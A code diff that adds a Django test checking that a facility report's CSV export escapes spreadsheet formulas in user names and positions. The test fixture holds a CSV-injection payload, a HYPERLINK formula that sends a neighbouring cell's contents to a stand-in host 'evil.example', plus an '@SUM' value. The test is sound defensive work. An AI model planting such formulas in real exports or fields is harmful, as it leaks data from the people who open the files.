@@ -91,3 +91,23 @@ def test_the_report_is_for_officers_and_administrators(client, guideline, facili
     admin = factories.UserFactory(role=User.Role.ADMINISTRATOR, facility=None)
     client.force_login(admin)
     assert client.get(reverse("guidelines:report", args=[guideline.pk])).status_code == 200
+
+
+def test_a_formula_in_a_name_reaches_the_csv_as_text(client, guideline, facility_a):
+    officer = factories.OfficerFactory(facility=facility_a)
+    factories.UserFactory(
+        facility=facility_a,
+        first_name='=HYPERLINK("http://evil.example/?"&A2,"Open")',
+        last_name="x",
+        position="@SUM(1+1)",
+    )
+    client.force_login(officer)
+    response = client.get(reverse("guidelines:report", args=[guideline.pk]), {"format": "csv"})
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(row for row in rows if "HYPERLINK" in row[1])
+    assert row[1] == """'=HYPERLINK("http://evil.example/?"&A2,"Open") x"""
+    assert row[3] == "'@SUM(1+1)"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
